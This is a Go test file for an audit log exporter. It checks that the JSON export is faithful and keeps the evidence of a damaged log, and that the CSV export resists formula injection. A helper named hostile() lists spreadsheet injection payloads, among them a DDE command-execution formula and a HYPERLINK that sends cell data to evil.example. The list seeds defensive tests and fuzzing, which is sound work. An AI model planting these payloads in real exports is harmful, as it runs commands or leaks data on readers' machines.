package audit_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"math/rand/v2"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode"

	"understudy/internal/audit"
)

func TestExportJSONIsTheLogAsItIs(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	small := options()
	small.MaxFileBytes = 1500
	head := newLog(t, dir, 7, small)
	var whole []byte
	for _, path := range logFiles(t, dir) {
		whole = append(whole, readFile(t, path)...)
	}
	var out bytes.Buffer
	if err := snapshot(t, dir).ExportJSON(t.Context(), &out, &head, noon); err != nil {
		t.Fatal(err)
	}
	first, rest, _ := bytes.Cut(out.Bytes(), []byte("\n"))
	if !bytes.Equal(rest, whole) {
		t.Error("the records are not as they are")
	}
	var manifest audit.Manifest
	if err := json.Unmarshal(first, &manifest); err != nil {
		t.Fatal(err)
	}
	want := audit.Manifest{
		Format: "understudy-audit", Version: 1, ExportedAt: noon, State: audit.Good, Records: 7,
		Head: head.String(), Anchored: true, Bytes: int64(len(whole)), SHA256: hexSum(string(whole) + "\n"),
	}
	if !reflect.DeepEqual(manifest, want) {
		t.Errorf("manifest %+v\nwant     %+v", manifest, want)
	}
	// The lines after the manifest can be verified as a log of their own.
	again := t.TempDir()
	writeFile(t, filepath.Join(again, "audit-0000000001.jsonl"), rest)
	if got := verify(t, again, &head); got.State != audit.Good || got.Records != 7 {
		t.Errorf("verified as %+v", got)
	}
}

func TestExportJSONOfABrokenLogKeepsTheEvidence(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	newLog(t, dir, 3, options())
	path := logFiles(t, dir)[0]
	damaged := bytes.Replace(readFile(t, path), []byte("invoices"), []byte("\xff\x00voices"), 1)
	writeFile(t, path, damaged)
	var out bytes.Buffer
	if err := snapshot(t, dir).ExportJSON(t.Context(), &out, nil, noon); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasSuffix(out.Bytes(), damaged) || !bytes.Contains(out.Bytes(), []byte(`"state":"broken"`)) {
		t.Errorf("exported %s", out.Bytes())
	}
}

// fullDisk takes a number of bytes.
type fullDisk struct{ left int }

var errFull = errors.New("disk full")

func (d *fullDisk) Write(p []byte) (int, error) {
	if len(p) > d.left {
		return 0, errFull
	}
	d.left -= len(p)
	return len(p), nil
}

func TestExportToAFullDisk(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	newLog(t, dir, 3, options())
	history := snapshot(t, dir)
	for _, left := range []int{0, 2, 400} {
		if err := history.ExportJSON(t.Context(), &fullDisk{left}, nil, noon); !errors.Is(err, errFull) {
			t.Errorf("JSON with %d bytes left: %v", left, err)
		}
		if err := audit.ExportCSV(&fullDisk{left}, slices.Values(records(t, dir))); !errors.Is(err, errFull) {
			t.Errorf("CSV with %d bytes left: %v", left, err)
		}
	}
}

func TestExportCSV(t *testing.T) {
	t.Parallel()
	record := request(1)
	record.Seq, record.Time, record.Event = 7, noon, audit.Ended
	record.Reason = "two\nlines, \"quoted\""
	record.Result = audit.Result{Code: "clerk_busy", ActorToken: "act_1", Sessions: []string{"sess_1", "sess_2"}, TraceID: "trace", Report: "ab", Pages: 6, HeldBack: 3}
	record.Mode = "view_only"
	table := readCSV(t, record, audit.Record{})
	want := []string{
		"7", "2026-03-04T12:00:00Z", "ended", "imp_0001", "user_agent", "true", "2026-03-04T12:00:00Z",
		"ins_example", "user_0001", "two\nlines, \"quoted\"", "", "", "", "60", "1800",
		"clerk_busy", "act_1", "sess_1 sess_2", "trace", "", "", "", "", "6", "0", "3", "ab", "view_only",
	}
	if len(table) != 3 || !slices.Equal(table[2][23:], []string{"", "", "", "", ""}) || len(table[0]) != len(want) || !slices.Equal(table[1], want) {
		t.Errorf("table %q", table)
	}
}

// readCSV exports records and reads them back.
func readCSV(t *testing.T, records ...audit.Record) [][]string {
	t.Helper()
	var out bytes.Buffer
	if err := audit.ExportCSV(&out, slices.Values(records)); err != nil {
		t.Fatal(err)
	}
	text, marked := strings.CutPrefix(out.String(), "\ufeff")
	if !marked {
		t.Error("no byte order mark")
	}
	table, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("read back: %v", err)
	}
	return table
}

// hostile is what somebody would write into a reason to run a formula on the
// computer of whoever opens the export.
func hostile() []string {
	return []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?\"&A1)",
		" =1", "   \u00a0=1", "\u200b=1", "\ufeff=1", "\t=1", "\r=1", "\n=1", "\r\n=1", "\v=1", "\f=1", "\x00=1",
		"fine\n=1", "fine\r=1", "fine\r\n  =1", "fine\u2028=1", "fine\u0085=1", "fine\n\n\n\t-1", "\"\n=1\"",
		"Ticket 4;=1+1", "Ticket 4; =1", "Ticket 4\t=1", "Ticket 4|@SUM(A1)", "Ticket 4,+1", "a;;=1", "a;\"=1\"", "a;'=1", "a|\u200b-1", "\"=1\"",
		"a,\t;|-1", "﹦1", "a;﹢1", "﹣1", "﹫1",
		"＝1", "＋1", "－1", "＠1", "=", "-", "\t", "\r", "'=1", "\n", "",
	}
}

func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	for _, text := range hostile() {
		cellsAreText(t, text)
	}
}

func FuzzCSV(f *testing.F) {
	for _, seed := range hostile() {
		f.Add(seed)
	}
	f.Fuzz(cellsAreText)
}

// cellsAreText puts the text into every field that takes one and checks the
// cells as a spreadsheet would read them.
func cellsAreText(t *testing.T, text string) {
	t.Helper()
	table := readCSV(t, audit.Record{
		Event: audit.Event(text), Boot: text, Record: text, Operator: audit.Operator{ID: text}, Instance: text, User: text,
		Reason: text, Override: text, Reference: text, Browser: text,
		Result: audit.Result{Code: text, ActorToken: text, Sessions: []string{text, text}, TraceID: text},
	})
	if len(table) != 2 || len(table[1]) != len(table[0]) {
		t.Fatalf("%q broke the table: %q", text, table)
	}
	for _, cell := range table[1] {
		for _, piece := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune("\n\v\f\r\u0085\u2028\u2029;\t|,", r) }) {
			start := strings.TrimLeftFunc(piece, func(r rune) bool {
				return r == '"' || unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)
			})
			if start != "" && strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫", []rune(start)[0]) {
				t.Errorf("%q became %q, which starts a formula", text, cell)
			}
		}
		if cell != "" && strings.ContainsRune("\t\r", rune(cell[0])) {
			t.Errorf("%q became %q, which starts with a character that programs drop", text, cell)
		}
	}
}

// TestPlainTextStaysPlain: an export is for reading.
func TestPlainTextStaysPlain(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"Ticket 48213", "a - b", "asked by priya@acme.com, twice", "2 + 2 = 4", "up; down", "\"quoted\"", "it's fine", "yes, no | maybe",
	} {
		if got := readCSV(t, audit.Record{Reason: text})[1][9]; got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

// TestEveryStartOfACellIsEscaped joins separators, spaces, marks and text at random.
func TestEveryStartOfACellIsEscaped(t *testing.T) {
	t.Parallel()
	pieces := []string{
		"\n", "\r", "\r\n", "\v", "\f", "\u0085", "\u2028", "\u2029", ";", "\t", "|", ",", " ", "\u00a0", "\u200b", "\ufeff", "\x00",
		"\"", "'", "=", "+", "-", "@", "＝", "﹢", "a", "1", "é",
	}
	random := rand.New(rand.NewPCG(20, 1))
	for range 3000 {
		var text strings.Builder
		for range random.IntN(12) {
			text.WriteString(pieces[random.IntN(len(pieces))])
		}
		cellsAreText(t, text.String())
	}
}
